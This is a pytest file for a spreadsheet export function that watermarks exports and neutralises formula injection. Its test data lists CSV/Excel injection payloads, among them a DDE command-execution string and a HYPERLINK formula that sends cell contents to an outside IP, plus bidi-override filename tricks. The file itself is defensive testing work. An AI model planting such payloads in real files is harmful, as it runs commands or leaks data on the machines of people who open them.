"""Exports as workbooks: who took them is written on them, and nothing in them is ever computed."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from app.documents.workbook import MAX_CELL, Column, Mark, export, safe

AT = datetime(2026, 11, 18, 1, 0, tzinfo=UTC)
MARK = Mark("测试丁", "center", AT, 2)
COLUMNS = (Column("编号", 16), Column("标题", 40))
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{MINUS SIGN}1",
    "{=1+1}",
)


def cells(body: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def parts(body: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}


class TestExport:
    def test_title_watermark_headings_and_rows_follow_each_other(self) -> None:
        found = cells(export("案件台账", COLUMNS, [("QX1", "工资"), ("QX2", "噪声")], MARK))

        assert found[0][0] == "案件台账"
        assert found[1][0] == "内部资料 导出人 测试丁 账号 center 时间 2026-11-18 09:00 共 2 条"
        assert found[2:] == [["编号", "标题"], ["QX1", "工资"], ["QX2", "噪声"]]

    def test_every_printed_page_bears_the_watermark(self) -> None:
        sheet = parts(export("案件台账", COLUMNS, [("QX1", "工资")], MARK))["xl/worksheets/sheet1.xml"]

        assert sheet.count("导出人 测试丁 账号 center") == 3  # the line, header and footer
        assert "oddHeader" in sheet
        assert "oddFooter" in sheet

    def test_headings_stay_and_filter(self) -> None:
        sheet = load_workbook(
            io.BytesIO(export("案件台账", COLUMNS, [("QX1", "工资")], replace(MARK, rows=1)))
        ).worksheets[0]

        assert sheet.freeze_panes == "A4"
        assert sheet.auto_filter.ref == "A3:B4"
        assert sheet.print_title_rows == "$1:$3"
        assert sheet.column_dimensions["B"].width == pytest.approx(40, abs=1)

    def test_no_row_is_a_file_too(self) -> None:
        assert cells(export("案件台账", COLUMNS, [], MARK))[2] == ["编号", "标题"]

    def test_a_name_cannot_speak_to_the_printer(self) -> None:
        body = export("案件台账", COLUMNS, [], Mark('&G&"Courier"甲', "a&b", AT, 0))

        printed = parts(body)["xl/worksheets/sheet1.xml"].split("<oddHeader>")[1].split("</oddHeader>")[0]
        assert printed.count("&amp;") == 1  # our own, which says where the line stands

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_nothing_is_computed(self, attack: str) -> None:
        body = export("案件台账", COLUMNS, [(attack, attack)], Mark(attack, attack, AT, 1))
        sheet = parts(body)["xl/worksheets/sheet1.xml"]

        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert all(kind == "inlineStr" for kind in _kinds(sheet))
        assert "vbaProject" not in "".join(parts(body))


def _kinds(sheet: str) -> list[str]:
    return [piece.split('"')[0] for piece in sheet.split(' t="')[1:]]


class TestSafe:
    @pytest.mark.parametrize("attack", ATTACKS[:-1])
    def test_what_begins_like_a_formula_gets_an_apostrophe(self, attack: str) -> None:
        assert safe(attack).startswith("'")

    @pytest.mark.parametrize("text", ["", "QX2026000001", "林*", "139****0001", "a=b", "1-2", "'引号", "—", "𠮷野家"])
    def test_what_does_not_stays_as_it_is(self, text: str) -> None:
        assert safe(text) == text

    @pytest.mark.parametrize(("text", "kept"), [
        ("甲\x07乙\x1b[31m", "甲乙[31m"),
        ("一\r\n二\t三", "一  二 三"),
        ("gpj.\N{RIGHT-TO-LEFT OVERRIDE}exe", "gpj.exe"),
        ("\ufffe丙\uffff\ud800", "丙"),
    ])  # fmt: skip
    def test_what_cannot_be_seen_is_dropped(self, text: str, kept: str) -> None:
        assert safe(text) == kept

    def test_a_long_text_is_cut(self) -> None:
        assert len(safe("=" * 100_000)) == MAX_CELL + 1
